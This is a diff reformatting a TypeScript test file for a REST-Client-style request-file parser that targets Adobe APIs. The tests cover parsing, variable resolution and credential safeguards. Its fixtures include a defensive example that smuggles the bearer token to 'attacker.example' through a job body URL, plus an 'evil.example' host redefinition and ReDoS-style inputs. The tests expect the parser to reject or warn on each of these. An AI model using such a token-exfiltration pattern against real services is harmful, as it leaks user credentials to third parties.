@@ -1,6 +1,16 @@
 /** Issues #11 and #16: the request-file parser (REST Client's subset, linear in its input), its warnings and its two-phase variable resolution. */
 import * as assert from 'node:assert/strict';
-import { AdobeEndpointName, BuiltinValues, ParsedRequestFile, parseRequestFile, redefinedVariables, references, requestAt, requestHost, resolveRequest } from '../../../src/core/requests/requestFile';
+import {
+	AdobeEndpointName,
+	BuiltinValues,
+	ParsedRequestFile,
+	parseRequestFile,
+	redefinedVariables,
+	references,
+	requestAt,
+	requestHost,
+	resolveRequest,
+} from '../../../src/core/requests/requestFile';
 import { assertNoLeak, rejection } from '../helpers';
 
 const TOKEN = 'eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJ0ZXN0In0.c2lnbmF0dXJlLXRva2Vu';
@@ -79,8 +89,26 @@ describe('request files: parsing', () => {
 		assert.equal(file.requests.length, 3);
 		const [hello, generate, list] = file.requests;
 		assert.deepEqual(
-			{ name: hello.name, method: hello.method, url: hello.url, httpVersion: hello.httpVersion, line: hello.line, startLine: hello.startLine, endLine: hello.endLine, body: hello.body },
-			{ name: 'hello', method: 'GET', url: '{{base}}/pie/psdService/hello', httpVersion: 'HTTP/1.1', line: 6, startLine: 5, endLine: 10, body: undefined },
+			{
+				name: hello.name,
+				method: hello.method,
+				url: hello.url,
+				httpVersion: hello.httpVersion,
+				line: hello.line,
+				startLine: hello.startLine,
+				endLine: hello.endLine,
+				body: hello.body,
+			},
+			{
+				name: 'hello',
+				method: 'GET',
+				url: '{{base}}/pie/psdService/hello',
+				httpVersion: 'HTTP/1.1',
+				line: 6,
+				startLine: 5,
+				endLine: 10,
+				body: undefined,
+			},
 		);
 		assert.deepEqual(hello.headers, [
 			{ name: 'Authorization', value: 'Bearer {{$adobeToken}}', line: 7 },
@@ -91,21 +119,31 @@ describe('request files: parsing', () => {
 		assert.equal(generate.body, '{\n  "prompt": "{{prompt}}"\n}', 'the body ends at ###, trailing blank lines trimmed');
 		assert.equal(generate.bodyLine, 16);
 		assert.deepEqual([generate.startLine, generate.endLine], [12, 20]);
-		assert.deepEqual([list.method, list.url, list.name, list.httpVersion], ['GET', 'https://cloudstorage.adobe.io/v1/projects', undefined, undefined], 'a bare URL is a GET');
+		assert.deepEqual(
+			[list.method, list.url, list.name, list.httpVersion],
+			['GET', 'https://cloudstorage.adobe.io/v1/projects', undefined, undefined],
+			'a bare URL is a GET',
+		);
 	});
 
 	it('joins query continuation lines to the URL, and reads any method case as upper-case', () => {
-		const file = parseRequestFile('get https://cloudstorage.adobe.io/v1/projects\n    ?limit=10\n    &orderBy={{order}}\nAccept: application/json\n');
+		const file = parseRequestFile(
+			'get https://cloudstorage.adobe.io/v1/projects\n    ?limit=10\n    &orderBy={{order}}\nAccept: application/json\n',
+		);
 		assert.deepEqual(file.problems, []);
 		const [request] = file.requests;
 		assert.equal(request.method, 'GET');
 		assert.equal(request.url, 'https://cloudstorage.adobe.io/v1/projects?limit=10&orderBy={{order}}');
-		assert.deepEqual(request.urlParts.map((p) => p.line), [0, 1, 2]);
+		assert.deepEqual(
+			request.urlParts.map((p) => p.line),
+			[0, 1, 2],
+		);
 		assert.deepEqual(request.headers, [{ name: 'Accept', value: 'application/json', line: 3 }]);
 	});
 
 	it('reads CRLF and CR line endings like LF', () => {
-		const lf = '@a = 1\n###\n# @name x\nPOST https://image.adobe.io/x?a={{a}} HTTP/1.1\nContent-Type: application/json\n\n{"a": 1}\n\n###\nGET https://image.adobe.io/y\n';
+		const lf =
+			'@a = 1\n###\n# @name x\nPOST https://image.adobe.io/x?a={{a}} HTTP/1.1\nContent-Type: application/json\n\n{"a": 1}\n\n###\nGET https://image.adobe.io/y\n';
 		const crlf = parseRequestFile(lf.replace(/\n/g, '\r\n'));
 		const cr = parseRequestFile(lf.replace(/\n/g, '\r'));
 		assert.deepEqual(crlf, parseRequestFile(lf));
@@ -115,7 +153,9 @@ describe('request files: parsing', () => {
 	});
 
 	it('keeps variable values raw and lets a later definition win', async () => {
-		const file = parseRequestFile('@host=image.adobe.io\n@path = /pie/{{kind}}  \n@kind = first\n@kind = psdService\nGET https://{{host}}{{path}}/hello');
+		const file = parseRequestFile(
+			'@host=image.adobe.io\n@path = /pie/{{kind}}  \n@kind = first\n@kind = psdService\nGET https://{{host}}{{path}}/hello',
+		);
 		assert.deepEqual(
 			file.variables.map((v) => [v.name, v.value, v.line]),
 			[
@@ -130,7 +170,9 @@ describe('request files: parsing', () => {
 	});
 
 	it('finds the request at a line: its block, else the next one below, else none', () => {
-		const file = parseRequestFile('@a = 1\n\n###\n# @name one\nGET https://image.adobe.io/1\n\n###\n# only a comment\n###\nGET https://image.adobe.io/2\n');
+		const file = parseRequestFile(
+			'@a = 1\n\n###\n# @name one\nGET https://image.adobe.io/1\n\n###\n# only a comment\n###\nGET https://image.adobe.io/2\n',
+		);
 		const urls = (line?: number) => requestAt(file, line)?.url;
 		assert.equal(urls(), 'https://image.adobe.io/1');
 		assert.equal(urls(0), 'https://image.adobe.io/1', 'the variables above the first request');
@@ -140,7 +182,9 @@ describe('request files: parsing', () => {
 		assert.equal(urls(9), 'https://image.adobe.io/2');
 		assert.equal(urls(10), 'https://image.adobe.io/2', 'the trailing empty line belongs to the last block');
 		assert.equal(urls(11), undefined);
-		const broken = parseRequestFile('GET https://image.adobe.io/1\n###\nFETCH https://image.adobe.io/x\n###\nGET https://image.adobe.io/2\n');
+		const broken = parseRequestFile(
+			'GET https://image.adobe.io/1\n###\nFETCH https://image.adobe.io/x\n###\nGET https://image.adobe.io/2\n',
+		);
 		assert.equal(requestAt(broken, 2), undefined, 'a line in a malformed block does not run the request below it');
 		assert.equal(requestAt(broken, 3)?.url, 'https://image.adobe.io/2');
 		assert.equal(requestAt(parseRequestFile('# nothing\n'), undefined), undefined);
@@ -148,25 +192,40 @@ describe('request files: parsing', () => {
 
 	it('names the 1-based line of every malformed construct', () => {
 		const cases: Array<[string, RegExp]> = [
-			['\n\nFETCH https://image.adobe.io/x', /^Line 3: "FETCH" is not an HTTP method \(use GET, POST, PUT, PATCH, DELETE, HEAD, OPTIONS\)\.$/],
+			[
+				'\n\nFETCH https://image.adobe.io/x',
+				/^Line 3: "FETCH" is not an HTTP method \(use GET, POST, PUT, PATCH, DELETE, HEAD, OPTIONS\)\.$/,
+			],
 			['POST', /^Line 1: POST needs a URL after it\.$/],
 			['GET https://image.adobe.io/a b', /^Line 1: the request line should be "METHOD URL \[HTTP\/1\.1\]"; a URL cannot contain spaces/],
 			['GET https://image.adobe.io/x\n?a=1 2', /^Line 2: a query line cannot contain spaces/],
-			['GET https://image.adobe.io/x\nAuthorization Bearer x', /^Line 2: this is not a header \("Name: value"\)\. Leave a blank line between the headers and the body\.$/],
+			[
+				'GET https://image.adobe.io/x\nAuthorization Bearer x',
+				/^Line 2: this is not a header \("Name: value"\)\. Leave a blank line between the headers and the body\.$/,
+			],
 			['POST https://image.adobe.io/x\nContent-Type: application/json\n{"a": 1}', /^Line 3: this is not a header/],
 			['@ = value\nGET https://image.adobe.io/x', /^Line 1: a file variable needs a name: "@name = value"\.$/],
 			['@=value', /^Line 1: a file variable needs a name/],
 			['@token\nGET https://image.adobe.io/x', /^Line 1: the file variable "@token" needs "=" and a value/],
 			['@1abc = x', /^Line 1: "@1abc" is not a valid variable name/],
-			['GET https://image.adobe.io/x\n@late = 1', /^Line 2: a file variable cannot come after the request line: put it above the request, or in its own block after ###\.$/],
+			[
+				'GET https://image.adobe.io/x\n@late = 1',
+				/^Line 2: a file variable cannot come after the request line: put it above the request, or in its own block after ###\.$/,
+			],
 			['GET https://image.adobe.io/{{base', /^Line 1: a "\{\{" is not closed with "\}\}" on the same line\.$/],
 			['GET https://image.adobe.io/x\nx-api-key: {{$adobeClientId', /^Line 2: a "\{\{" is not closed/],
 			['POST https://image.adobe.io/x\n\n{"a": "{{name"}\n', /^Line 3: a "\{\{" is not closed/],
 			['@a = {{b\n', /^Line 1: a "\{\{" is not closed/],
-			['# @name one\nGET https://image.adobe.io/1\n###\n# @name one\nGET https://image.adobe.io/2', /^Line 4: the name "one" is already used on line 1\.$/],
+			[
+				'# @name one\nGET https://image.adobe.io/1\n###\n# @name one\nGET https://image.adobe.io/2',
+				/^Line 4: the name "one" is already used on line 1\.$/,
+			],
 			['# @name\nGET https://image.adobe.io/1', /^Line 1: "@name" needs a name/],
 			['# @name two words\nGET https://image.adobe.io/1', /^Line 1: "@name" needs a name/],
-			['POST https://image.adobe.io/x\nContent-Type: image/png\n\n< ./cat.png\n', /^Line 4: bodies read from a file \("< \.\/file"\) are not supported; paste the content instead\.$/],
+			[
+				'POST https://image.adobe.io/x\nContent-Type: image/png\n\n< ./cat.png\n',
+				/^Line 4: bodies read from a file \("< \.\/file"\) are not supported; paste the content instead\.$/,
+			],
 			['POST https://image.adobe.io/x\n\n\n<@ ./body.json\n', /^Line 4: bodies read from a file/],
 		];
 		for (const [text, expected] of cases) {
@@ -223,7 +282,9 @@ describe('request files: resolving variables', () => {
 
 	it('shows the variable text, not the value, in the display form', async () => {
 		// IMS is the one API that takes a token in its body (validate, revoke).
-		const resolved = await resolve('@auth = Bearer {{$adobeToken}}\nPOST https://ims-na1.adobelogin.com/ims/validate_token/v1\nAuthorization: {{auth}}\nx-api-key: {{$adobeClientId}}\n\n{"token": "{{$adobeToken Other Profile}}"}');
+		const resolved = await resolve(
+			'@auth = Bearer {{$adobeToken}}\nPOST https://ims-na1.adobelogin.com/ims/validate_token/v1\nAuthorization: {{auth}}\nx-api-key: {{$adobeClientId}}\n\n{"token": "{{$adobeToken Other Profile}}"}',
+		);
 		assert.deepEqual(resolved.display, {
 			method: 'POST',
 			url: 'https://ims-na1.adobelogin.com/ims/validate_token/v1',
@@ -239,9 +300,13 @@ describe('request files: resolving variables', () => {
 
 	it('refuses the token in a body to any API but IMS (a job would pass it on to the hosts its body names), before asking for it', async () => {
 		const calls: string[] = [];
-		const body = '@src = https://attacker.example/x.psd?t={{$adobeToken}}\nPOST https://photoshop-api.adobe.io/v2/create-composite\nAuthorization: Bearer {{$adobeToken}}\n\n{"image": {"source": {"url": "{{src}}"}}}';
+		const body =
+			'@src = https://attacker.example/x.psd?t={{$adobeToken}}\nPOST https://photoshop-api.adobe.io/v2/create-composite\nAuthorization: Bearer {{$adobeToken}}\n\n{"image": {"source": {"url": "{{src}}"}}}';
 		const error = await rejection(resolve(body, undefined, builtins(calls)));
-		assert.equal(error.message, 'Line 5: {{$adobeToken}} can be sent in a header (Authorization: Bearer {{$adobeToken}}), not in the body: an API can pass what its body names on to other hosts. Only Adobe IMS takes a token in its body.');
+		assert.equal(
+			error.message,
+			'Line 5: {{$adobeToken}} can be sent in a header (Authorization: Bearer {{$adobeToken}}), not in the body: an API can pass what its body names on to other hosts. Only Adobe IMS takes a token in its body.',
+		);
 		assert.deepEqual(calls, [], 'a credential was asked for');
 		// The Client ID (an API key, not a secret) may be in a body; the configured IMS (here the emulator's) takes the token.
 		await resolve('POST https://photoshop-api.adobe.io/v2/x\n\n{"client": "{{$adobeClientId}}"}');
@@ -283,7 +348,11 @@ describe('request files: resolving variables', () => {
 				calls.push(`checkOrigin:${url.href}`);
 			},
 		);
-		assert.deepEqual(calls, ['checkOrigin:http://127.0.0.1:4010/pie/psdService/hello', 'token:', 'clientId:'], 'each distinct credential once, after the check');
+		assert.deepEqual(
+			calls,
+			['checkOrigin:http://127.0.0.1:4010/pie/psdService/hello', 'token:', 'clientId:'],
+			'each distinct credential once, after the check',
+		);
 		assert.equal(resolved.headers[2].value, TOKEN);
 	});
 
@@ -344,7 +413,10 @@ describe('request files: resolving variables', () => {
 				}),
 			);
 			assert.equal(error.kind, 'invalidInput');
-			assert.equal(error.message, `Line ${line}: {{$adobeToken}} and {{$adobeClientId}} cannot be used in the URL (URLs end up in logs and proxies); send them in a header.`);
+			assert.equal(
+				error.message,
+				`Line ${line}: {{$adobeToken}} and {{$adobeClientId}} cannot be used in the URL (URLs end up in logs and proxies); send them in a header.`,
+			);
 			assert.deepEqual([calls, checked], [[], false]);
 		}
 	});
@@ -353,13 +425,34 @@ describe('request files: resolving variables', () => {
 		const cases: Array<[string, string]> = [
 			['GET https://image.adobe.io/{{missing}}', 'Line 1: {{missing}} is not defined. Define it with "@missing = value".'],
 			['@a = {{b}}\n\nGET https://image.adobe.io/{{a}}', 'Line 1: {{b}} is not defined. Define it with "@b = value".'],
-			['GET https://image.adobe.io/x\nX-Id: {{$uuid}}', 'Line 2: {{$uuid}} is not a built-in variable this extension knows (use $adobeToken, $adobeClientId, $adobeEndpoint, $guid, $timestamp or $randomInt).'],
-			['POST https://image.adobe.io/x\n\n{\n"a": "{{$processEnv HOME}}"}', 'Line 4: {{$processEnv}} is not a built-in variable this extension knows (use $adobeToken, $adobeClientId, $adobeEndpoint, $guid, $timestamp or $randomInt).'],
-			['GET {{login.response.body.$.url}}', 'Line 1: {{login.response.body.$.url}} is not defined. Request variables (name.response…) are not supported.'],
-			['GET {{$adobeEndpoint lightroom}}/v3', 'Line 1: {{$adobeEndpoint lightroom}} is unknown; use {{$adobeEndpoint ims|photoshop|cloudStorage|firefly|photoshopV2}}.'],
-			['GET {{$adobeEndpoint}}/v3', 'Line 1: {{$adobeEndpoint}} needs one of ims, photoshop, cloudStorage, firefly, photoshopV2, e.g. {{$adobeEndpoint photoshop}}.'],
-			['GET https://image.adobe.io/{{$randomInt 5 5}}', 'Line 1: {{$randomInt 5 5}} should be {{$randomInt min max}} with whole numbers, min < max (max is excluded).'],
-			['GET https://image.adobe.io/{{$timestamp 1 fortnight}}', 'Line 1: {{$timestamp 1 fortnight}} should be {{$timestamp}} or {{$timestamp offset unit}} with a whole offset and a unit of ms, s, m, h, d, w, M, Q, y.'],
+			[
+				'GET https://image.adobe.io/x\nX-Id: {{$uuid}}',
+				'Line 2: {{$uuid}} is not a built-in variable this extension knows (use $adobeToken, $adobeClientId, $adobeEndpoint, $guid, $timestamp or $randomInt).',
+			],
+			[
+				'POST https://image.adobe.io/x\n\n{\n"a": "{{$processEnv HOME}}"}',
+				'Line 4: {{$processEnv}} is not a built-in variable this extension knows (use $adobeToken, $adobeClientId, $adobeEndpoint, $guid, $timestamp or $randomInt).',
+			],
+			[
+				'GET {{login.response.body.$.url}}',
+				'Line 1: {{login.response.body.$.url}} is not defined. Request variables (name.response…) are not supported.',
+			],
+			[
+				'GET {{$adobeEndpoint lightroom}}/v3',
+				'Line 1: {{$adobeEndpoint lightroom}} is unknown; use {{$adobeEndpoint ims|photoshop|cloudStorage|firefly|photoshopV2}}.',
+			],
+			[
+				'GET {{$adobeEndpoint}}/v3',
+				'Line 1: {{$adobeEndpoint}} needs one of ims, photoshop, cloudStorage, firefly, photoshopV2, e.g. {{$adobeEndpoint photoshop}}.',
+			],
+			[
+				'GET https://image.adobe.io/{{$randomInt 5 5}}',
+				'Line 1: {{$randomInt 5 5}} should be {{$randomInt min max}} with whole numbers, min < max (max is excluded).',
+			],
+			[
+				'GET https://image.adobe.io/{{$timestamp 1 fortnight}}',
+				'Line 1: {{$timestamp 1 fortnight}} should be {{$timestamp}} or {{$timestamp offset unit}} with a whole offset and a unit of ms, s, m, h, d, w, M, Q, y.',
+			],
 		];
 		for (const [text, message] of cases) {
 			const file = parseRequestFile(text);
@@ -370,14 +463,21 @@ describe('request files: resolving variables', () => {
 
 	it('detects cycles among file variables and bounds a doubling chain', async () => {
 		for (const [text, message] of [
-			['@a = {{b}}\n@b = x{{c}}\n@c = {{a}}\nGET https://image.adobe.io/{{a}}', 'Line 1: the file variables refer to each other in a loop: @a → @b → @c → @a.'],
+			[
+				'@a = {{b}}\n@b = x{{c}}\n@c = {{a}}\nGET https://image.adobe.io/{{a}}',
+				'Line 1: the file variables refer to each other in a loop: @a → @b → @c → @a.',
+			],
 			['@self = {{self}}\nGET https://image.adobe.io/{{self}}', 'Line 1: the file variables refer to each other in a loop: @self → @self.'],
 		]) {
 			const file = parseRequestFile(text);
 			const error = await rejection(resolveRequest(file, file.requests[0], builtins(), allow));
 			assert.equal(error.message, message);
 		}
-		const doubling = ['@v0 = x', ...Array.from({ length: 30 }, (_, i) => `@v${i + 1} = {{v${i}}}{{v${i}}}`), 'GET https://image.adobe.io/{{v30}}'].join('\n');
+		const doubling = [
+			'@v0 = x',
+			...Array.from({ length: 30 }, (_, i) => `@v${i + 1} = {{v${i}}}{{v${i}}}`),
+			'GET https://image.adobe.io/{{v30}}',
+		].join('\n');
 		const file = parseRequestFile(doubling);
 		const error = await rejection(resolveRequest(file, file.requests[0], builtins(), allow));
 		assert.match(error.message, /^Line \d+: the file variables are expanded more than 1000 times for this request; simplify them\.$/);
@@ -387,7 +487,10 @@ describe('request files: resolving variables', () => {
 
 	it('requires an absolute http(s) URL once variables are replaced', async () => {
 		for (const [text, message] of [
-			['GET /pie/psdService/hello', 'Line 1: the URL is not an absolute URL once its variables are replaced; start it with https:// or {{$adobeEndpoint …}}.'],
+			[
+				'GET /pie/psdService/hello',
+				'Line 1: the URL is not an absolute URL once its variables are replaced; start it with https:// or {{$adobeEndpoint …}}.',
+			],
 			['@u = ftp://image.adobe.io\n\nGET {{u}}/x', 'Line 3: the URL must start with https:// or http://, not ftp://.'],
 		]) {
 			const file = parseRequestFile(text);
@@ -403,7 +506,11 @@ describe('request files: resolving variables', () => {
 		assert.equal((await resolveRequest(file, file.requests[1], builtins(), allow)).url, 'https://image.adobe.io/2');
 		const variable = parseRequestFile('@a = x{{b\n###\nGET https://image.adobe.io/{{a}}\n###\nGET https://image.adobe.io/fine');
 		const used = await rejection(resolveRequest(variable, variable.requests[0], builtins(), allow));
-		assert.equal(used.message, 'Line 1: a "{{" is not closed with "}}" on the same line.', 'a malformed variable is refused where it is used');
+		assert.equal(
+			used.message,
+			'Line 1: a "{{" is not closed with "}}" on the same line.',
+			'a malformed variable is refused where it is used',
+		);
 		assert.equal((await resolveRequest(variable, variable.requests[1], builtins(), allow)).url, 'https://image.adobe.io/fine');
 	});
 
@@ -416,7 +523,9 @@ describe('request files: resolving variables', () => {
 	});
 
 	it('never quotes a credential in its errors', async () => {
-		const file: ParsedRequestFile = parseRequestFile('@t = {{$adobeToken}}\nGET https://image.adobe.io/x\nAuthorization: Bearer {{t}}\nX-Bad: {{nope}}');
+		const file: ParsedRequestFile = parseRequestFile(
+			'@t = {{$adobeToken}}\nGET https://image.adobe.io/x\nAuthorization: Bearer {{t}}\nX-Bad: {{nope}}',
+		);
 		const calls: string[] = [];
 		const error = await rejection(resolveRequest(file, file.requests[0], builtins(calls), allow));
 		assert.equal(error.message, 'Line 4: {{nope}} is not defined. Define it with "@nope = value".');
@@ -426,12 +535,28 @@ describe('request files: resolving variables', () => {
 
 describe('request files: redefined variables', () => {
 	it('warns on both lines of a variable defined twice, naming the other line and the value used', () => {
-		const text = ['@host = https://photoshop-api.adobe.io', '@other = 1', '', 'GET {{host}}/v2/status/1', '', '###', '@host = https://evil.example'].join('\n');
+		const text = [
+			'@host = https://photoshop-api.adobe.io',
+			'@other = 1',
+			'',
+			'GET {{host}}/v2/status/1',
+			'',
+			'###',
+			'@host = https://evil.example',
+		].join('\n');
 		const file = parseRequestFile(text);
 		assert.deepEqual(file.problems, [], 'a redefinition does not stop a send');
 		assert.deepEqual(redefinedVariables(file), [
-			{ line: 0, otherLine: 6, message: 'Line 1: "@host" is redefined on line 7; every request in this file uses the value from line 7: "https://evil.example".' },
-			{ line: 6, otherLine: 0, message: 'Line 7: "@host" redefines the variable from line 1; every request in this file uses this value: "https://evil.example".' },
+			{
+				line: 0,
+				otherLine: 6,
+				message: 'Line 1: "@host" is redefined on line 7; every request in this file uses the value from line 7: "https://evil.example".',
+			},
+			{
+				line: 6,
+				otherLine: 0,
+				message: 'Line 7: "@host" redefines the variable from line 1; every request in this file uses this value: "https://evil.example".',
+			},
 		]);
 	});
 
@@ -442,9 +567,15 @@ describe('request files: redefined variables', () => {
 			warnings.map((w) => w.line),
 			[0, 1, 2],
 		);
-		assert.match(warnings[0].message, /^Line 1: "@v" is redefined on line 2; every request in this file uses the value from line 3: "https:\/\/x\.example\/a+…"\.$/);
+		assert.match(
+			warnings[0].message,
+			/^Line 1: "@v" is redefined on line 2; every request in this file uses the value from line 3: "https:\/\/x\.example\/a+…"\.$/,
+		);
 		assert.match(warnings[1].message, /^Line 2: "@v" is redefined on line 3;/);
-		assert.match(warnings[2].message, /^Line 3: "@v" redefines the variable from line 2; every request in this file uses this value: "https:/);
+		assert.match(
+			warnings[2].message,
+			/^Line 3: "@v" redefines the variable from line 2; every request in this file uses this value: "https:/,
+		);
 		assert.ok(warnings.every((w) => w.message.length < 250));
 	});
 
@@ -474,7 +605,12 @@ describe('request files: the host a CodeLens names', () => {
 	});
 
 	it('names the host a redefinition far below sends to', async () => {
-		assert.equal(await hostOf('@host = https://photoshop-api.adobe.io\nGET {{host}}/v2/status/1\nAuthorization: Bearer {{$adobeToken}}\n\n###\n\n\n@host = https://evil.example'), 'evil.example');
+		assert.equal(
+			await hostOf(
+				'@host = https://photoshop-api.adobe.io\nGET {{host}}/v2/status/1\nAuthorization: Bearer {{$adobeToken}}\n\n###\n\n\n@host = https://evil.example',
+			),
+			'evil.example',
+		);
 	});
 
 	it('gives nothing when the URL does not resolve without fetching', async () => {
@@ -572,12 +708,18 @@ describe('request files: parsing stays linear in its input', function () {
 	/** Adversarial inputs of size about n: each defeated one of the parser's old patterns. */
 	const CASES: Array<{ name: string; make: (n: number) => string }> = [
 		{ name: 'a whitespace run inside a request line (HTTP_VERSION)', make: (n) => `GET https://x.example/a${' '.repeat(n)}b` },
-		{ name: 'whitespace runs before and after a request line, then a version', make: (n) => `${' '.repeat(n)}GET https://x.example/a${' \t'.repeat(n / 2)}HTTP/1.1${' '.repeat(n)}` },
+		{
+			name: 'whitespace runs before and after a request line, then a version',
+			make: (n) => `${' '.repeat(n)}GET https://x.example/a${' \t'.repeat(n / 2)}HTTP/1.1${' '.repeat(n)}`,
+		},
 		{ name: 'unclosed {{ on a request line (REFERENCE)', make: (n) => `GET https://x.example/${'{{'.repeat(n / 2)}` },
 		{ name: 'unclosed {{ in a query line', make: (n) => `GET https://x.example/\n?a=${'{{'.repeat(n / 2)}` },
 		{ name: '{{ split by separators, closed at the end', make: (n) => `GET https://x.example/${'{{\u2028'.repeat(n / 3)}}}` },
 		{ name: 'a header value: blanks, then a separator', make: (n) => `GET https://x.example\nx-a:${' '.repeat(n)}b\u2028c` },
-		{ name: 'a header name: blanks before the colon, many times', make: (n) => `GET https://x.example\nx-a${' \t'.repeat(n / 2)}b:${' '.repeat(n)}` },
+		{
+			name: 'a header name: blanks before the colon, many times',
+			make: (n) => `GET https://x.example\nx-a${' \t'.repeat(n / 2)}b:${' '.repeat(n)}`,
+		},
 		{ name: 'a variable: spaces around a missing "="', make: (n) => `@v${' '.repeat(n)}b\u2028c\nGET https://x.example` },
 		{ name: 'an @name tag: spaces, then a separator', make: (n) => `# @name${' '.repeat(n)}b\u2028\nGET https://x.example` },
 		{ name: 'a method, spaces, then a separator', make: (n) => `GET${' '.repeat(n)}b\u2028c` },
@@ -604,7 +746,9 @@ describe('request files: parsing stays linear in its input', function () {
 				// for a load spell long enough to flatter the ratio of a quadratic parse.
 				if (tLarge / tSmall < 3 && tLarge < 250) return;
 			}
-			assert.fail(`${name}: ${small.length} then ${large.length} characters took ${ratios.join(', ')}; linear is ×2 and a few ms, quadratic ×4 and seconds`);
+			assert.fail(
+				`${name}: ${small.length} then ${large.length} characters took ${ratios.join(', ')}; linear is ×2 and a few ms, quadratic ×4 and seconds`,
+			);
 		});
 	}
 });
